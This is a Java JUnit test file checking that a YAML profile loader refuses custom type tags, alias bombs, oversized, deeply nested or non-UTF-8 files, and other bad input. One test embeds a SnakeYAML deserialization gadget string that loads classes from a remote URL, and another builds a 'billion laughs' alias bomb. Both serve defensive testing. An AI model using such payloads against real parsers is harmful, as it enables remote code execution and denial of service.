package io.onegrid.profile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile or broken files are refused with a clear problem, never executed, expanded or half-read. */
class ProfileLoaderSafetyTest {
    @TempDir
    Path dir;

    /** A Java type tag cannot instantiate anything; it is refused on its line. */
    @Test
    void customTagsAreRefused() {
        String yaml = ProfileLoaderTest.MODBUS.replace("name: Pump pressure",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]");
        ProfileException e = catchThrowableOfType(ProfileException.class, () -> ProfileLoader.parse("evil.yaml", yaml));
        assertThat(e.line()).isEqualTo(2);
        assertThat(e.problem()).contains("YAML tag '!!javax.script.ScriptEngineManager' is not allowed");
        assertThatThrownBy(() -> ProfileLoader.parse("local.yaml", "id: !thing x\n")).isInstanceOf(ProfileException.class)
                .hasMessage("local.yaml:1: YAML tag '!thing' is not allowed in profiles; write plain values (text, numbers,"
                        + " true/false, lists and mappings) and quote text that looks like a number");
    }

    /** A "billion laughs" alias bomb is stopped before it grows, by the alias limit or the no-aliases rule. */
    @Test
    void aliasBombIsRefused() {
        StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            sb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        assertThatThrownBy(() -> ProfileLoader.parse("bomb.yaml", sb.toString())).isInstanceOf(ProfileException.class)
                .hasMessageContaining("bomb.yaml:");
    }

    /** Even one innocent alias is refused: profiles are written out in full. */
    @Test
    void singleAliasIsRefused() {
        String yaml = ProfileLoaderTest.MODBUS.replace("unit: MPa", "unit: &u MPa").replace("    type: uint16\n", "    type: uint16\n    unit: *u\n");
        ProfileException e = catchThrowableOfType(ProfileException.class, () -> ProfileLoader.parse("alias.yaml", yaml));
        assertThat(e.problem()).contains("aliases (*u) are not allowed");
        assertThat(e.line()).isEqualTo(14);
    }

    /** Files over 1 MiB are refused before parsing, from disk or from memory. */
    @Test
    void oversizedFilesAreRefused() throws Exception {
        Path big = dir.resolve("big.yaml");
        Files.write(big, ("# " + "x".repeat(ProfileLoader.MAX_BYTES) + "\n").getBytes(StandardCharsets.UTF_8));
        assertThatThrownBy(() -> ProfileLoader.load(big)).isInstanceOf(ProfileException.class)
                .hasMessageContaining("over the profile size limit of 1048576 bytes");
        assertThatThrownBy(() -> ProfileLoader.parse("mem", "#" + "é".repeat(ProfileLoader.MAX_BYTES / 2 + 1)))
                .isInstanceOf(ProfileException.class).hasMessageContaining("size limit");
    }

    /** Syntax errors carry the YAML parser's line; a second document is refused. */
    @Test
    void syntaxErrorsHaveLines() {
        ProfileException e = catchThrowableOfType(ProfileException.class,
                () -> ProfileLoader.parse("s.yaml", "id: a\nname: [unclosed\ncategory: x\n"));
        assertThat(e.problem()).startsWith("not valid YAML");
        assertThat(e.line()).isBetween(2, 4);
        assertThatThrownBy(() -> ProfileLoader.parse("two.yaml", ProfileLoaderTest.GPIO + "---\n" + ProfileLoaderTest.GPIO))
                .isInstanceOf(ProfileException.class).hasMessageContaining("not valid YAML");
    }

    /** Deep nesting is bounded, and the problem says where the nesting went too deep and what the limit is. */
    @Test
    void deepNestingIsRefused() {
        String yaml = "id: x\nname: " + "[".repeat(500) + "]".repeat(500) + "\n";

        ProfileException e = catchThrowableOfType(ProfileException.class, () -> ProfileLoader.parse("deep.yaml", yaml));

        assertThat(e.line()).isEqualTo(2);
        assertThat(e.column()).isGreaterThan(6);
        assertThat(e.problem()).isEqualTo("the profile is nested more than 20 levels deep");
    }

    /** Bytes that are not UTF-8 are named as such; missing files name the file. */
    @Test
    void unreadableFiles() throws Exception {
        Path latin1 = dir.resolve("latin1.yaml");
        Files.write(latin1, "name: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
        assertThatThrownBy(() -> ProfileLoader.load(latin1)).isInstanceOf(ProfileException.class)
                .hasMessageContaining("not UTF-8");
        Path missing = dir.resolve("missing.yaml");
        ProfileException e = catchThrowableOfType(ProfileException.class, () -> ProfileLoader.load(missing));
        assertThat(e.file()).isEqualTo(missing.toString());
        assertThat(e.problem()).contains("cannot read the file");
    }

    /** A file on disk is named by its path, and a UTF-8 byte-order mark is tolerated. */
    @Test
    void loadsFromDisk() throws Exception {
        Path f = dir.resolve("door.yaml");
        Files.writeString(f, "\uFEFF" + ProfileLoaderTest.GPIO);
        assertThat(ProfileLoader.load(f).source()).isEqualTo(f.toString());
        assertThat(new ProfileLoader()).isNotNull();
    }
}
